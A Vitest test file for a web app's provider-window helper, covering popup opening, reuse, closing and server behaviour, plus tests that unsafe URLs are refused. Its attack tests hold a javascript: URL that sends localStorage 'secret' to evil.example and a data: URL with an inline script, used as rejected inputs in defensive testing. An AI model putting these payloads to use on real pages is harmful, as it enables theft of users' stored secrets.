/**
 * The provider page's window: opened blank in the click and sent to the page once its URL is known,
 * opened afresh (without a way back to this page) when the popup was blocked or closed meanwhile, and
 * closed when the purchase could not start. Without a window (a server), nothing happens.
 */
import { describe, expect, it } from 'vitest';
import { MESSAGES } from '../../domain/errors.ts';
import { recordingWindows } from '../../test-support/recordingWindows.ts';
import { browserOpenWindow, createProviderWindow } from './providerWindow.ts';

const PAGE = 'http://127.0.0.1:4000/onramp/provider/o1?provider=meld';
/** What a compromised cloud could answer: run as the host page in the window it opened blank. */
const SCRIPT = "javascript:fetch('https://evil.example/?' + localStorage.getItem('secret'))";

describe('provider window', () => {
  it('opens blank in the click, cut from this page, and goes to the provider page once its URL comes', () => {
    const windows = recordingWindows();
    const provider = createProviderWindow(windows.openWindow);
    provider.open();
    expect(windows.opened).toHaveLength(1);
    expect(windows.opened[0]).toMatchObject({ url: '', target: '_blank' });
    expect(windows.opened[0]?.window.opener).toBeNull();
    provider.navigate(PAGE);
    expect(windows.opened).toHaveLength(1);
    expect(windows.opened[0]?.window.location.href).toBe(PAGE);
  });

  it('a second click while the window is open keeps that window', () => {
    const windows = recordingWindows();
    const provider = createProviderWindow(windows.openWindow);
    provider.open();
    provider.open();
    expect(windows.opened).toHaveLength(1);
  });

  it('a blocked popup: the page opens afresh with its URL, without opener', () => {
    const windows = recordingWindows({ blocked: true });
    const provider = createProviderWindow(windows.openWindow);
    provider.open();
    provider.navigate(PAGE);
    expect(windows.opened.map(({ url, target, features }) => ({ url, target, features }))).toEqual([
      { url: '', target: '_blank', features: undefined },
      { url: PAGE, target: '_blank', features: 'noopener,noreferrer' },
    ]);
  });

  it('a window the person closed meanwhile is not reused: the page opens afresh', () => {
    const windows = recordingWindows();
    const provider = createProviderWindow(windows.openWindow);
    provider.open();
    windows.opened[0]?.window.close();
    provider.navigate(PAGE);
    expect(windows.opened).toHaveLength(2);
    expect(windows.opened[1]?.url).toBe(PAGE);
    expect(windows.opened[0]?.window.location.href).toBe('about:blank');
  });

  it('closes the window when the purchase could not start; a later purchase opens a new one', () => {
    const windows = recordingWindows();
    const provider = createProviderWindow(windows.openWindow);
    provider.open();
    provider.close();
    expect(windows.opened[0]?.window.closed).toBe(true);
    provider.open();
    expect(windows.opened).toHaveLength(2);
  });

  it('on a server (no window) opening and navigating do nothing and throw nothing', () => {
    expect(typeof window).toBe('undefined');
    expect(browserOpenWindow('', '_blank')).toBeNull();
    const provider = createProviderWindow();
    provider.open();
    provider.navigate(PAGE);
    provider.close();
  });

  it('attack: a javascript: URL is refused before the kept window moves; the flow then closes it', () => {
    const windows = recordingWindows();
    const provider = createProviderWindow(windows.openWindow);
    provider.open();
    const blank = windows.opened[0]?.window.location.href;
    expect(() => provider.navigate(SCRIPT)).toThrow(MESSAGES.unsafePageAddress);
    expect(windows.opened[0]?.window.location.href).toBe(blank);
    provider.close();
    expect(windows.opened[0]?.window.closed).toBe(true);
  });

  it('attack: with the popup blocked, a data: or plain-http URL opens no window at all', () => {
    const windows = recordingWindows({ blocked: true });
    const provider = createProviderWindow(windows.openWindow);
    provider.open();
    expect(() => provider.navigate('data:text/html,<script>alert(1)</script>')).toThrow(
      MESSAGES.unsafePageAddress,
    );
    expect(() => provider.navigate('http://pay.example.com/')).toThrow(MESSAGES.unsafePageAddress);
    expect(windows.opened.map(({ url }) => url)).toEqual(['']);
  });
});
